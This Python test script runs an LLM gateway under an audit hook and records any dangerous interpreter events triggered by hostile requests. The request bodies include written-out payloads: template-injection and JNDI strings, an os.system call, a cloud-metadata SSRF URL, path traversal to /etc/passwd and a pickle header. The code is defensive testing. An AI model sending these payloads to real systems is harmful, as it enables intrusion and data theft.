"""A gateway that serves real requests under an audit hook (PEP 578): prints what the interpreter was asked to do meanwhile."""

from __future__ import annotations

import json
import sys
from pathlib import Path

from pennyworth.testing.chat_bytes import chat_json
from pennyworth.testing.scripted_server import connection, send
from tests.door.raw import Wire, post, question
from tests.door.running import Running, plan_for
from tests.door.scripted_provider import ScriptedProvider, last_reply

WATCHED = (
    "pickle.find_class",
    "marshal.loads",
    "exec",
    "compile",
    "os.system",
    "subprocess.Popen",
    "os.posix_spawn",
    "os.exec",
    "open",
    "os.remove",
    "os.rename",
    "import",
    "urllib.Request",
    "socket.getaddrinfo",
)
events: list[tuple[str, str]] = []
watching = False


def hook(event: str, args: tuple[object, ...]) -> None:
    asked = str(args[0])[:200] if args else ""
    if watching and event in WATCHED and (event, asked) != ("socket.getaddrinfo", "127.0.0.1"):  # our own client's
        events.append((event, asked))


def bodies() -> list[bytes]:
    image = {"type": "image_url", "image_url": {"url": "http://169.254.169.254/latest/meta-data/"}}
    return [
        question("plain"),
        question("plain"),
        question("{{7*7}} ${jndi:ldap://x} __import__('os').system('id')"),
        question(messages=[{"role": "user", "content": [image]}]),
        question(chat_template="{% for x in ().__class__ %}", chat_template_kwargs={"a": "b"}),
        question(user="../../../../etc/passwd", metadata={"path": "/etc/passwd"}),
        question(stream=True, model="../secret"),
        b"\x80\x04\x95",
    ]


def main() -> None:
    global watching
    folder = Path(sys.argv[1])
    with (
        ScriptedProvider(then=connection(send(last_reply(chat_json("fine"))))) as provider,
        Running(plan_for(provider.base_url, state_dir=str(folder))) as running,
    ):
        with Wire(running.port) as wire:
            wire.send(post(question("warm up"))).read()
            wire.send(post(question("warm up", stream=True))).read()
        running.receipts()
        sys.addaudithook(hook)
        watching = True
        for body in bodies():
            with Wire(running.port) as wire:
                wire.send(post(body, "x-pennyworth-tags: ../../etc")).read()
        watching = False
        print(json.dumps({"events": events, "receipts": len(running.receipts())}))


main()
